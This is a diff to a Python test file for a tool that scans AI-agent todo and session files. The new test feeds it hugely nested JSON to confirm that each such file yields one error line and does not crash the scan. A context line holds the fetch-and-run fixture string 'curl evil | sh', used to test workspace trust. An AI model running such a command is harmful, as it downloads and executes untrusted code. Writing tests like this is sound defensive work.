@@ -48,3 +48,26 @@ def test_workspace_file_owned_by_another_user_is_not_trusted(tmp_path):
     assert str(planted) in str(e.value) and "\n" not in str(e.value)
     # named explicitly, the user chose it: trusted
     assert workspace.resolve(str(shared)).vars["train"] == "curl evil | sh"
+
+
+def test_deeply_nested_agent_files_are_one_error_line_not_a_crash(tmp_path):
+    """`[[[[...]]]]` in a todo file, a session file or a transcript line: that list errs, the scan goes on."""
+    from ops.agents import scan
+
+    home = tmp_path / "home"
+    data = home / ".local" / "share" / "opencode" / "storage"
+    (data / "todo").mkdir(parents=True)
+    (data / "session" / "prj").mkdir(parents=True)
+    deep = "[" * 100_000 + "]" * 100_000
+    (data / "todo" / "deep.json").write_text(deep)
+    (data / "todo" / "good.json").write_text(json.dumps([{"id": "1", "content": "a", "status": "pending"}]))
+    (data / "session" / "prj" / "good.json").write_text(deep)
+    (home / ".claude" / "todos").mkdir(parents=True)
+    (home / ".claude" / "projects" / "-p").mkdir(parents=True)
+    (home / ".claude" / "todos" / "s1-agent-s1.json").write_text(
+        json.dumps([{"content": "x", "status": "pending", "activeForm": "doing x"}]))
+    (home / ".claude" / "projects" / "-p" / "s1.jsonl").write_text(deep + "\n" + json.dumps({"cwd": "/w"}) + "\n")
+    lists = {d["session"]: d for d in scan.scan(str(home), {})}
+    assert "nested" in lists["deep"]["error"] and "\n" not in lists["deep"]["error"]
+    assert lists["good"]["items"][0]["content"] == "a"
+    assert lists["s1-agent-s1"]["project"] == "/w"
